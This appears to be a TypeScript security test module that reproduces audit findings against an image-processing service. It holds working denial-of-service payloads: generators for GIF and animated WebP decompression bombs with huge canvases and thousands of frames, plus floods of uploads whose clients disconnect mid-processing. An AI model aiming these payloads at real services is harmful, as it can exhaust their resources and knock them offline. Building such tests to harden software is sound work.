/** Pictures that cost far more than their bytes, and clients that leave while theirs is read. */
import sharp from "sharp";
import { type Attack, once, repeated } from "./attack.ts";
import type { Part, Target } from "./target.ts";

const side = 7_000;

/** Frames of one pixel on a large canvas, each of which must be drawn on what was before it. */
export function gif(width: number, height: number, frames: number): Buffer {
  const low = [width & 255, width >> 8, height & 255, height >> 8];
  const corner = [(width - 1) & 255, (width - 1) >> 8, (height - 1) & 255, (height - 1) >> 8];
  const frame = [0x21, 0xf9, 4, 3 << 2, 1, 0, 0, 0, 0x2c, ...corner, 1, 0, 1, 0, 0, 2, 2, 0x44, 0x01, 0];
  const start = [...Buffer.from("GIF89a"), ...low, 0x80, 0, 0, 0, 0, 0, 255, 255, 255];
  return Buffer.concat([Buffer.from(start), ...repeated(frames, () => Buffer.from(frame)), Buffer.of(0x3b)]);
}

const chunk = (id: string, data: Uint8Array): Buffer => {
  const length = Buffer.alloc(4);
  length.writeUInt32LE(data.length);
  return Buffer.concat([Buffer.from(id), length, data, Buffer.alloc(data.length & 1)]);
};
const u24 = (value: number): number[] => [value & 255, (value >> 8) & 255, (value >> 16) & 255];

/** An animated WebP on a large canvas, its frames large or of one pixel; lossless, so that a frame is tiny. */
async function webp(frames: number, frameSide: number): Promise<Buffer> {
  const background = { r: 9, g: 200, b: 9, alpha: 0.5 };
  const still = await sharp({ create: { width: frameSide, height: frameSide, channels: 4, background } })
    .webp({ lossless: true })
    .toBuffer();
  const picture = still.subarray(still.indexOf("VP8L"));
  const canvas = [...u24(side - 1), ...u24(side - 1)];
  const size = [...u24(frameSide - 1), ...u24(frameSide - 1)];
  const frame = chunk(
    "ANMF",
    Buffer.concat([Buffer.from([0, 0, 0, 0, 0, 0, ...size, ...u24(10), 0]), picture]),
  );
  const chunks = [chunk("VP8X", Buffer.from([0x12, 0, 0, 0, ...canvas])), chunk("ANIM", Buffer.alloc(6))];
  return chunk("RIFF", Buffer.concat([Buffer.from("WEBP"), ...chunks, ...repeated(frames, () => frame)]));
}

const largeFrames = once(() => webp(150, side));
const smallFrames = once(() => webp(400, 1));

const noise = (width: number) =>
  sharp({
    create: {
      width,
      height: width,
      channels: 3,
      background: "#000",
      noise: { type: "gaussian", mean: 128, sigma: 60 },
    },
  });
const jpeg = once(() => noise(3_000).jpeg({ quality: 90 }).toBuffer());
const avif = once(() => noise(1_500).avif({ effort: 0 }).toBuffer());

async function lastFrame(target: Target, image: Uint8Array, frames: number): Promise<void> {
  const parts: Part[] = [
    ["image", image],
    ["frame", String(frames - 1)],
  ];
  await target.postForm("/image/exposure", parts, { timeoutMs: 30_000 });
}

/** Each sender leaves within a third of a second, in the middle of the work. */
async function leaveOften(target: Target, path: string, image: Uint8Array, count: number): Promise<void> {
  for (let at = 0; at < count; at += 1) {
    await target.postForm(path, [["image", image]], { leaveAfterMs: 60 + ((at * 37) % 250) });
  }
}

export const imageAttacks: readonly Attack[] = [
  {
    name: "GIF of 14 kB, 49 megapixels by 600 frames",
    finding: "H1",
    run: (target) => lastFrame(target, gif(side, side, 600), 600),
  },
  {
    name: "four GIFs of 9 kB at once, small pictures meanwhile",
    finding: "H1",
    async run(target) {
      const bombs = repeated(4, () => lastFrame(target, gif(side, side, 400), 400));
      const small: Part[] = [["image", gif(64, 64, 1)]];
      await Promise.all([...bombs, ...repeated(4, () => target.postForm("/image/exposure", small))]);
    },
  },
  {
    name: "GIF of 230 kB, the last of 9,999 frames",
    finding: "H1",
    run: (target) => lastFrame(target, gif(side, side, 9_999), 9_999),
  },
  {
    name: "WebP of 292 kB, 150 frames of 49 megapixels",
    finding: "H1",
    run: async (target) => lastFrame(target, await largeFrames(), 150),
  },
  {
    name: "WebP of 400 frames of one pixel",
    finding: "H1",
    run: async (target) => lastFrame(target, await smallFrames(), 400),
  },
  {
    name: "40 senders of a JPEG leave",
    finding: "H2",
    run: async (target) => leaveOften(target, "/image/blur", await jpeg(), 40),
  },
  {
    name: "40 senders of an AVIF for moderation leave",
    finding: "H2",
    run: async (target) => leaveOften(target, "/image/moderate", await avif(), 40),
  },
];
